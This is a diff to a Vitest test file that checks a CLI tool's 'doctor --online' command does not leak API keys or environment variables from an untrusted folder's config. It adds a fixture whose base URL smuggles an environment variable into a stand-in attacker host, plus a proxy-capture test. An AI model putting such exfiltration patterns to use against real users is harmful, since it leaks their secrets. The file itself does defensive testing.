@@ -2,7 +2,7 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { Readable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
-import { closedPort, serve } from '../helpers/server.ts';
+import { closedPort, serve, serveTcp } from '../helpers/server.ts';
 import { emptyFolder, run } from '../helpers/terminal.ts';
 
 const SECRET = 'wJalrXUtnFEMI7K7MDENG';
@@ -118,10 +118,10 @@ describe('a strange folder', () => {
       'RAPTOR_COMPLY_API_KEY',
     ],
     [
-      'a key with the doctor',
-      raptor({ baseUrl: EVIL }),
+      'a variable as a part of a host that the doctor looks up',
+      raptor({ baseUrl: 'https://${USER_NAME}.evil.example', key: 'k-1' }),
       ['doctor', 'raptor-comply', '--online'],
-      'RAPTOR_COMPLY_API_KEY',
+      'USER_NAME',
     ],
   ])('does not send %s, and says what would allow it', async (_, files, argv, variable) => {
     const place = folder(files);
@@ -204,6 +204,20 @@ describe('a strange folder', () => {
     });
     expect(code).toBe(2);
     expect(stderr).not.toContain(SECRET);
+  });
+
+  it('does not get the doctor to send a key, once the connection has been looked at', async () => {
+    let got = '';
+    const port = await serveTcp((socket) =>
+      socket.on('data', (bytes) => {
+        got += bytes;
+      }),
+    );
+    const proxy = { HTTPS_PROXY: `http://127.0.0.1:${port}` };
+    const place = folder(raptor({ baseUrl: EVIL }));
+    const { code, stderr } = await runIn(place, ['doctor', 'raptor-comply', '--online'], proxy);
+    expect({ code, got }).toEqual({ code: 2, got: '' });
+    expect(stderr).toContain('--allow-env RAPTOR_COMPLY_API_KEY');
   });
 
   it('cannot allow anything itself', async () => {
